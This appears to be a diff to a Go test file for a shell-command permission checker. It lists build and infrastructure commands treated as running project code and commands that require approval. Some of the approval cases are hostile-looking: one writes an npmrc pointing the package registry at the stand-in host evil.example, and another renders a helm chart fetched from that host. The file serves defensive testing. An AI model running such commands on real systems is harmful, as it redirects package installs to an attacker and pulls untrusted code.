@@ -74,6 +74,9 @@ func TestAdversary_T13_SplitMakesProtectedNames(t *testing.T) {
 // files say.
 func TestAdversary_T13_ProjectCodeIsSaidToBe(t *testing.T) {
 	runsProjectCode(t, "bazel", "bazelisk", "ng", "pants", "buck2", "pre-commit", "helm lint .", "helm lint chart", "helm template .", "helm template x ./chart",
+		"kustomize build .", "kubectl kustomize overlays/dev", "trivy image alpine:3.20", "packer version", "packer", "pulumi whoami", "pulumi stack ls", "terraform providers",
+		"vagrant version", "sls --version", "cdk version", "vercel ls", "cabal update", "docker compose ps",
 		"docker compose config -q", "docker compose config --images", "docker-compose config --services", "podman compose config -q")
-	asksForEach(t, "docker compose config", "helm lint /etc/x", "helm template x https://evil.example/c.tgz")
+	asksForEach(t, "supervisorctl status", "helmfile list", "packer --help x", "echo registry=http://evil.example > dir/etc/npmrc", "echo x > .lfsconfig",
+		"docker compose config", "helm lint /etc/x", "helm template x https://evil.example/c.tgz")
 }
